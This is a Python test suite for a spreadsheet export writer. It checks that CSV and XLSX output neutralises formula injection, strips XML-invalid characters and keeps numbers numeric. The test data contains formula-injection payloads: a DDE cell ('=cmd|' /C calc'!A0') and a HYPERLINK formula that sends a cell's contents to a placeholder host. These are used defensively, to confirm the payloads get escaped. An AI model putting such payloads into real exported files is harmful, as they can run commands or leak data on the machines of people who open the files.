"""sheets/: a text cell never runs as a formula nor breaks an XLSX; the one writer keeps numbers
numeric, checked by opening its files with the csv module and openpyxl."""
from __future__ import annotations

import csv
import io
import random

import openpyxl
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest

from sheets import writer
from sheets.cells import NEEDS_CARE_RE2, NOT_IN_XML, safe_cell
from sheets.writer import TooManyRows, table_bytes

CELLS = [  # text → the cell a spreadsheet gets
    ("Gia Lai", "Gia Lai"),
    ("", ""),
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x.example/?q="&A1,"bấm")', '\'=HYPERLINK("http://x.example/?q="&A1,"bấm")'),
    ("+84 912", "'+84 912"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  \n =cmd|' /C calc'!A0", "'  \n =cmd|' /C calc'!A0"),
    ("\tGia Lai", "'\tGia Lai"),
    ("\rGia Lai", "'\rGia Lai"),
    ("a = b - c", "a = b - c"),
    ("tăng 4,3%", "tăng 4,3%"),
    ("câu\x0bcó tab dọc", "câu\ufffdcó tab dọc"),
    ("\x00\x1f\ufffe\uffff", "\ufffd\ufffd\ufffd\ufffd"),
    ("\x0b=1", "\ufffd=1"),  # no longer starts with a sign once the control character is gone
    ("dòng 1\ndòng 2\tcột", "dòng 1\ndòng 2\tcột"),
]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_safe_cell(text, cell):
    assert safe_cell(text) == cell


def test_the_re2_pattern_finds_exactly_the_texts_safe_cell_changes():
    rng = random.Random(13)
    alphabet = "=+-@ \t\r\naZ1'\"" + NOT_IN_XML[:6] + "\ufffe"
    texts = [text for text, _ in CELLS] + ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5)))
                                           for _ in range(3000)]
    found = pc.match_substring_regex(pa.array(texts), NEEDS_CARE_RE2).to_pylist()
    assert found == [safe_cell(t) != t for t in texts]


HOSTILE = pa.table({
    "source_title": ["=HYPERLINK(\"http://x.example\")", "Báo Gia Lai", "câu\x0bhỏng", None],
    "source_publisher": ["+1", "@A1", "\t-1", "Nhân Dân"],
    "value": pa.array([2861.0, 1.5, 0.0, 13663.0]),
    "year": pa.array([2024, 2023, None, 2015], pa.int64()),
    "derived": [False, True, False, False],
    "quote": ["x" * 40_000, "-", "ok", "Năm 2024, Gia Lai tiếp 2.861 lượt."],
})


def test_csv_cells_are_safe_and_numbers_stay_numbers():
    table = HOSTILE.drop_columns(["derived"])  # the csv module reads true/false as text
    data = table_bytes("csv", table.schema, table.to_batches())
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[0] == ["source_title", "source_publisher", "value", "year", "quote"]
    assert [r[:2] for r in rows[1:]] == [["'=HYPERLINK(\"http://x.example\")", "'+1"], ["Báo Gia Lai", "'@A1"],
                                         ["câu\ufffdhỏng", "'\t-1"], ["", "Nhân Dân"]]
    # QUOTE_NONNUMERIC reads every unquoted cell as a number: the values and years were written as numbers.
    assert [r[2] for r in rows[1:]] == [2861.0, 1.5, 0.0, 13663.0]
    assert [r[3] for r in rows[1:]] == [2024.0, 2023.0, "", 2015.0]
    assert rows[1][4] == "x" * 40_000 and rows[2][4] == "'-"


def test_xlsx_cells_of_text_are_text_and_numbers_are_numbers():
    data = table_bytes("xlsx", HOSTILE.schema, HOSTILE.to_batches())
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]
    assert all(t != "f" for row in cells for _, t in row)
    assert [row[:2] for row in cells[1:]] == [
        [("'=HYPERLINK(\"http://x.example\")", "s"), ("'+1", "s")], [("Báo Gia Lai", "s"), ("'@A1", "s")],
        [("câu\ufffdhỏng", "s"), ("'\t-1", "s")], [(None, "n"), ("Nhân Dân", "s")]]
    assert [row[2] for row in cells[1:]] == [(2861, "n"), (1.5, "n"), (0, "n"), (13663, "n")]
    assert [row[3] for row in cells[1:]] == [(2024, "n"), (2023, "n"), (None, "n"), (2015, "n")]
    assert [row[4] for row in cells[1:]] == [(False, "b"), (True, "b"), (False, "b"), (False, "b")]
    assert cells[1][5] == ("x" * 32_766 + "…", "s")


def test_every_character_xml_cannot_hold_still_gives_an_xlsx():
    texts = [f"câu{ch}số 5" for ch in NOT_IN_XML]
    table = pa.table({"quote": texts})
    ws = openpyxl.load_workbook(io.BytesIO(table_bytes("xlsx", table.schema, table.to_batches()))).active
    assert [row[0].value for row in ws.iter_rows(min_row=2)] == ["câu\ufffdsố 5"] * len(NOT_IN_XML)


def test_parquet_keeps_the_data_as_it_is():
    data = table_bytes("parquet", HOSTILE.schema, HOSTILE.to_batches())
    assert pq.read_table(io.BytesIO(data)).equals(HOSTILE)


def test_an_xlsx_too_long_for_one_sheet_is_refused(monkeypatch):
    monkeypatch.setattr(writer, "XLSX_MAX_ROWS", 3)
    with pytest.raises(TooManyRows):
        table_bytes("xlsx", HOSTILE.schema, HOSTILE.to_batches())


@pytest.mark.parametrize("large", [False, True])
def test_safe_batch_changes_exactly_the_cells_safe_cell_changes(large):
    """The batch writer finds the cells to change from the array's bytes: the same cells, sliced
    arrays and nulls included, with and without characters XML cannot hold."""
    rng = random.Random(7)
    alphabet = "=+-@ \t\r\nah1'ư" + NOT_IN_XML[:4]
    for with_control in (False, True):
        letters = alphabet if with_control else "=+-@ \t\r\nah1'ư"
        texts = [None if rng.random() < 0.1 else "".join(rng.choice(letters) for _ in range(rng.randint(0, 4)))
                 for _ in range(2000)]
        column = pa.array(texts, pa.large_string() if large else pa.string()).slice(7, 1500)
        batch = pa.RecordBatch.from_arrays([column], names=["t"])
        got = writer.safe_batch(batch).column(0).to_pylist()
        assert got == [None if t is None else safe_cell(t) for t in texts[7:1507]]
